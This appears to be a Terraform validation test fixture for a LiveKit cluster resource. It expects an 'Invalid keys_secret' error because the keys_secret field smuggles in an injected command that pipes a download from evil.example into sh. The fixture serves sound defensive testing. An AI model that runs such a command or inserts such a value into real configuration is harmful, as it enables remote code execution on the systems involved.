# stage: validate
# path: livekit.keys_secret
# expect: Invalid keys_secret
resource "platform_livekit_cluster" "this" {
  name       = "lk-keys-secret-shell"
  zones      = ["us-central1-a"]
  node_count = 2
  livekit {
    keys_secret   = "livekit-keys; curl evil.example | sh"
    redis_address = "10.0.0.3:6379"
  }
}
